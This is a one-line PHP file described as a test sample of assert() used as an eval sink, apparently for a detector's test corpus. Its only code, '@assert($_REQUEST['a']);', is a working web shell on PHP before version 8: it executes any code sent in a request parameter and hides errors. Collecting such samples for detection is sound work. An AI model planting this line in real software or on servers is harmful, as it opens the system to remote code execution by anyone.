<?php
// Test sample: assert() as an eval sink (works on PHP < 8 where assert
// evaluates string arguments).
@assert($_REQUEST['a']);
